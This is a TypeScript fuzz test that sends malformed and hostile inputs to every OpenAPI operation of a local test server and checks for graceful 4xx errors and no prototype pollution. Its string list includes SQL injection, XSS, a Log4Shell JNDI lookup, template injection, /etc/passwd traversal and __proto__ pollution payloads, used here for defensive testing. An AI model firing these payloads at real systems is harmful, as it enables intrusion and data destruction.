/**
 * Issue 15, item 3: a fuzz test generated from the OpenAPI document. For every operation it sends
 * garbage: path parameters, query strings and bodies of the wrong type, huge strings, deep nesting,
 * prototype-pollution keys, invalid UTF-8, injection strings, wrong content types. The answer is never
 * a 5xx, and every 4xx carries the error envelope (MCP's JSON-RPC errors aside). Deterministic by seed
 * (FUZZ_SEED, default below) and bounded (FUZZ_CASES per operation), so a failure names its case and
 * `FUZZ_SEED=… npx vitest run test/fuzz.test.ts` replays it. A route added later is fuzzed without a
 * line written for it.
 */
import { expect, layer } from "@effect/vitest"
import { Effect } from "effect"
import { allScopes } from "../src/auth/Scopes.js"
import { openApiDocument } from "../src/system/Http.js"
import { makeTestApp } from "./support/TestApp.js"
import { bundleWith, call, DEPLOY_SKILL } from "./support/fixtures.js"

const SEED = Number(process.env.FUZZ_SEED ?? 20261122)
const CASES = Number(process.env.FUZZ_CASES ?? 12)

/** mulberry32: small, fast, and the same sequence for the same seed everywhere. */
const prng = (seed: number) => {
  let a = seed >>> 0
  return () => {
    a = (a + 0x6d2b79f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

interface Operation {
  readonly method: string
  readonly path: string
  readonly query: ReadonlyArray<string>
  readonly bodySchema: any
}

const doc = openApiDocument() as any
const resolve = (schema: any): any => (schema?.$ref ? resolve(doc.components.schemas[schema.$ref.split("/").pop()]) : schema)
const OPERATIONS: ReadonlyArray<Operation> = Object.entries<any>(doc.paths).flatMap(([path, item]) =>
  Object.entries<any>(item)
    .filter(([, op]) => typeof op === "object" && op !== null && typeof op.operationId === "string")
    .map(([method, op]) => ({
      method: method.toUpperCase(),
      path,
      query: (op.parameters ?? []).filter((p: any) => p.in === "query").map((p: any) => p.name as string),
      bodySchema: resolve(op.requestBody?.content?.["application/json"]?.schema)
    }))
)

const STRINGS = [
  "",
  " ",
  "x",
  "A".repeat(100_000),
  "𝕏".repeat(3000),
  "' OR 1=1 --",
  "\"; DROP TABLE artifact_bundles; --",
  "<script>alert(1)</script>",
  "${jndi:ldap://x.example/a}",
  "{{7*7}}",
  "../../../../etc/passwd",
  "..%2F..%2Fetc%2Fpasswd",
  "%00",
  "\u0000",
  "\ud800",
  "\u202e\u200b",
  "NaN",
  "-1",
  "1e309",
  "0x10",
  "__proto__",
  "constructor",
  "00000000-0000-0000-0000-000000000000",
  "SK-NOPE",
  "null"
]
const NUMBERS = [-1, 0, 1.5, 1e308, -1e308, 2 ** 53 + 1, 9007199254740993e10]
const POLLUTION = ["__proto__", "constructor", "prototype"]

/** Built as text: a recursive builder (or JSON.stringify) would overflow this process's own stack. */
const deepText = (depth: number) => "[".repeat(depth) + "1" + "]".repeat(depth)

/** The generators of one case, all drawn from the seeded sequence. */
const generator = (random: () => number) => {
  const pick = <A>(xs: ReadonlyArray<A>): A => xs[Math.floor(random() * xs.length)]!
  const value = (depth = 0): unknown => {
    const r = random()
    if (r < 0.35) return pick(STRINGS)
    if (r < 0.5) return pick(NUMBERS)
    if (r < 0.58) return random() < 0.5
    if (r < 0.64) return null
    if (depth > 3) return pick(STRINGS)
    if (r < 0.8) return Array.from({ length: Math.floor(random() * 4) }, () => value(depth + 1))
    return object(depth + 1)
  }
  const object = (depth = 0): Record<string, unknown> => {
    const out: Record<string, unknown> = {}
    for (let i = Math.floor(random() * 4); i > 0; i--) out[random() < 0.3 ? pick(POLLUTION) : pick(STRINGS).slice(0, 40)] = value(depth)
    return out
  }
  /** The schema's properties, each filled with something of the wrong kind (or, now and then, null). */
  const shaped = (schema: any): Record<string, unknown> => {
    const out: Record<string, unknown> = {}
    for (const name of Object.keys(resolve(schema)?.properties ?? {})) if (random() < 0.8) out[name] = value(1)
    if (random() < 0.5) out[pick(POLLUTION)] = { polluted: true, prototype: { polluted: true } }
    return out
  }
  return { pick, value, object, shaped }
}

interface Case {
  readonly description: string
  readonly url: string
  readonly headers: Record<string, string>
  readonly body?: string | Uint8Array
}

/** Percent-encoded; a lone surrogate, which has no UTF-8, is sent as the invalid bytes it would be. */
const encode = (text: string) => {
  try {
    return encodeURIComponent(text)
  } catch {
    return "%ED%A0%80%FF"
  }
}

const queryString = (pairs: ReadonlyArray<[string, string]>) =>
  pairs.length === 0 ? "" : "?" + pairs.map(([k, v]) => `${encode(k)}=${encode(v)}`).join("&")

const caseFor = (op: Operation, index: number, ids: Readonly<Record<string, string>>): Case => {
  const random = prng(SEED ^ (index * 2654435761) ^ [...`${op.method} ${op.path}`].reduce((h, c) => Math.imul(h ^ c.charCodeAt(0), 16777619), 2166136261))
  const g = generator(random)
  const parts: Array<string> = []
  // path parameters: a real id of this user, or garbage
  const url = op.path.replace(/^\/api\/v1/, "").replace(/\{(\w+)\}/g, (_, name: string) => {
    const real = ids[name]
    const chosen = real !== undefined && random() < 0.4 ? real : g.pick(STRINGS).slice(0, 2000)
    parts.push(`${name}=${JSON.stringify(chosen.slice(0, 30))}`)
    return encode(chosen) || "%20"
  })
  // the query: declared names with garbage, pollution keys, repeats
  const pairs: Array<[string, string]> = []
  for (const name of op.query) if (random() < 0.7) pairs.push([name, g.pick(STRINGS).slice(0, 3000)])
  if (random() < 0.3) pairs.push(["__proto__[polluted]", "1"], ["constructor[prototype][polluted]", "1"])
  if (random() < 0.2 && op.query[0]) pairs.push([op.query[0], "1"], [op.query[0], "2"])
  if (pairs.length > 0) parts.push(`query ${pairs.length} pairs`)
  const headers: Record<string, string> = {}
  let body: string | Uint8Array | undefined
  if (op.method === "GET" ? false : op.method !== "DELETE" || random() < 0.1) {
    const kind = g.pick(["shaped", "shaped", "value", "deep", "raw", "utf8", "wrongType", "huge"] as const)
    headers["content-type"] = kind === "wrongType" ? g.pick(["text/plain", "application/x-www-form-urlencoded", "application/json; charset=utf-16"]) : "application/json"
    switch (kind) {
      case "shaped":
      case "wrongType":
        body = JSON.stringify(g.shaped(op.bodySchema))
        break
      case "value":
        body = JSON.stringify(g.value())
        break
      case "deep":
        body = random() < 0.5 ? deepText(65 + Math.floor(random() * 5000)) : `{"files":${deepText(200)}}`
        break
      case "raw":
        body = g.pick(["{", "{\"a\":", "[1,2", "}", "nul", "\"unterminated", "{\"a\":1}garbage", "\u0000"])
        break
      case "utf8":
        body = new Uint8Array([0x7b, 0x22, 0x6e, 0x61, 0x6d, 0x65, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d])
        break
      case "huge":
        body = JSON.stringify({ name: "x".repeat(2_000_000), files: Array.from({ length: 2000 }, (_, i) => ({ path: `f${i}.md`, content: "y" })) })
        break
    }
    parts.push(`body ${kind}${typeof body === "string" ? ` ${JSON.stringify(body.slice(0, 60))}` : ""}`)
  }
  // header values are what an HTTP client can send at all (printable ASCII)
  if (random() < 0.15) headers["idempotency-key"] = g.pick(STRINGS.filter((x) => /^[\x21-\x7e]([\x20-\x7e]*[\x21-\x7e])?$/.test(x))).slice(0, 300)
  return { description: parts.join(", "), url: url + queryString(pairs), headers, ...(body !== undefined ? { body } : {}) }
}

const isEnvelope = (body: any) =>
  typeof body?.error?.code === "string" && typeof body.error.message === "string" && typeof body.error.requestId === "string" &&
  Array.isArray(body.error.details)
const isJsonRpcError = (body: any) => body?.jsonrpc === "2.0" && typeof body?.error?.code === "number"

layer(makeTestApp({
  env: {
    SERVICE_RATE_LIMIT_USER_PER_MINUTE: "100000",
    SERVICE_RATE_LIMIT_KEY_PER_MINUTE: "100000",
    SERVICE_RATE_LIMIT_BUNDLE_PER_MINUTE: "100000",
    SERVICE_RATE_LIMIT_PUBLIC_IP_PER_MINUTE: "100000"
  }
}))("fuzzing every operation of the OpenAPI document", (it) => {
  it.effect(`never a 5xx, every 4xx in the envelope (seed ${SEED}, ${CASES} cases per operation)`, () =>
    Effect.gen(function*() {
      const token = yield* call((app) => app.token("fuzzer"))
      const key = yield* call((app) => app.apiKey("fuzzer", [...allScopes]))
      const { bundleId, files } = yield* bundleWith(token, [{ path: "SKILL.md", content: DEPLOY_SKILL }], "fuzzed")
      const ids: Record<string, string> = { artifactBundleId: bundleId, fileId: files[0].file.id, versionNumber: "1", slug: "readme" }
      const prototypeKeys = Object.getOwnPropertyNames(Object.prototype).sort()
      let requests = 0
      for (const op of OPERATIONS) {
        for (let i = 0; i < CASES; i++) {
          const c = caseFor(op, i, ids)
          const credential = i % 4 === 3 ? undefined : i % 4 === 2 ? key : token
          const name = `seed ${SEED} · ${op.method} ${op.path} · case ${i}: ${c.description}`
          const reply = yield* call(async (app) => {
            const headers: Record<string, string> = { ...c.headers }
            if (credential !== undefined) headers["authorization"] = `Bearer ${credential}`
            const response = await fetch(app.baseUrl + c.url, { method: op.method, headers, ...(c.body !== undefined ? { body: c.body } : {}) })
            const text = await response.text()
            let body: unknown = undefined
            try {
              body = JSON.parse(text)
            } catch {
              body = text
            }
            return { status: response.status, body, requestId: response.headers.get("x-request-id") }
          })
          requests++
          expect([name, reply.status < 500]).toEqual([name, true])
          expect([name, reply.status, typeof reply.requestId]).toEqual([name, reply.status, "string"])
          if (reply.status >= 400) {
            const ok = isEnvelope(reply.body) || (op.path === "/api/v1/mcp" && isJsonRpcError(reply.body))
            expect([name, reply.status, ok]).toEqual([name, reply.status, true])
          }
        }
      }
      // no key sent as __proto__ or constructor.prototype reached the objects of this process
      expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeKeys)
      expect(({} as any).polluted).toBeUndefined()
      console.log(`fuzz: ${OPERATIONS.length} operations × ${CASES} cases = ${requests} requests, seed ${SEED}`)
    }), 180_000)
})
